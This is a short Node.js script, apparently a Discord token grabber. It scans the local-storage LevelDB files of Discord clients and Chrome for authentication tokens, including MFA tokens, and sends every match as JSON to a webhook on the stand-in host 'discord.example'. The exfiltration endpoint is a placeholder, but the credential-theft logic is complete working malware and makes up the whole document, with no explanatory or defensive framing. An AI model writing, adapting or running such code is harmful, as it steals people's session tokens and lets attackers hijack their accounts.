const fs = require('fs');
const path = require('path');
const https = require('https');
const appdata = process.env.APPDATA || path.join(require('os').homedir(), '.config');
const roots = ['discord', 'discordcanary', 'discordptb', 'Google/Chrome/User Data/Default'];
const tokens = new Set();
for (const r of roots) {
  const dir = path.join(appdata, r, 'Local Storage', 'leveldb');
  let files = [];
  try { files = fs.readdirSync(dir); } catch (e) { continue; }
  for (const f of files.filter((f) => f.endsWith('.ldb') || f.endsWith('.log'))) {
    const txt = fs.readFileSync(path.join(dir, f), 'latin1');
    for (const m of txt.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g) || []) tokens.add(m);
  }
}
const body = JSON.stringify({ username: 'grabber', content: [...tokens].join('\n') || 'none' });
const req = https.request({ hostname: 'discord.example', path: '/api/webhooks/000000000000000000/FAKE-webhook-token-do-not-use', method: 'POST', headers: { 'Content-Type': 'application/json' } });
req.on('error', () => {});
req.end(body);
